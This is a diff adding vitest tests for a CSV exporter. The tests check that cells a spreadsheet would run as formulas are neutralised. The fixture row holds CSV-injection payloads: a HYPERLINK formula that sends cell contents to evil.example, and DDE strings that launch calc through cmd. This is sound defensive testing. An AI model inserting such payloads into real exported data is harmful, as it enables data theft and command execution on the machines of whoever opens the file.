@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { atlasToCsv } from './export.ts';
+import { parseCsv } from './csv.ts';
+import { action, atlasOf } from '../../../tests/fixtures/atlas.ts';
 import type { Action, CompiledAtlas } from './types.ts';
 
 const full: Action = {
@@ -45,6 +47,7 @@ const atlas: CompiledAtlas = {
   scale: [],
   jurisdictions: [{ id: 'FRA', name: 'France', kind: 'country' }],
   actions: [full, bare],
+  coverage: [],
 };
 
 describe('atlasToCsv', () => {
@@ -62,5 +65,43 @@ describe('atlasToCsv', () => {
     expect(atlasToCsv({ ...atlas, actions: [] })).toBe(
       'id,jurisdiction,jurisdiction_name,date,date_precision,effective,ends,level,category,authority,instrument,scope,deadlines,summary,confidence,notes,sources\r\n',
     );
+  });
+});
+
+// A row an attacker could get into the data through a pasted summary or a malicious pull request.
+const hostile = {
+  ...action('fra-2022', 'FRA', '2022-03', 'advisory'),
+  summary: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  scope: '+1',
+  notes: '-cmd|\' /C calc\'!A0',
+  authority: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  instrument: '\t=1+1',
+  deadlines: [{ date: { iso: '2022-04-01', precision: 'day' as const }, text: '=1+1' }],
+};
+const hostileAtlas = atlasOf(['FRA'], { actions: [hostile] });
+
+function cells(csv: string): Record<string, string> {
+  const table = parseCsv(csv);
+  return Object.fromEntries(table.header.map((h, i) => [h.value, table.rows[0].fields[i].value]));
+}
+
+describe('events.csv is safe to open in a spreadsheet', () => {
+  const row = cells(atlasToCsv(hostileAtlas));
+
+  it('turns every text cell that a spreadsheet would run as a formula into text', () => {
+    expect(row.summary).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
+    expect(row.scope).toBe("'+1");
+    expect(row.notes).toBe("'-cmd|' /C calc'!A0");
+    expect(row.authority).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(row.instrument).toBe("'\t=1+1");
+  });
+
+  it('leaves dates, ids and ordinary text as they are', () => {
+    expect(row.date).toBe('2022-03');
+    expect(row.date_precision).toBe('month');
+    expect(row.id).toBe('fra-2022');
+    expect(row.jurisdiction).toBe('FRA');
+    // Starts with a date, so not a formula.
+    expect(row.deadlines).toBe('2022-04-01: =1+1');
   });
 });
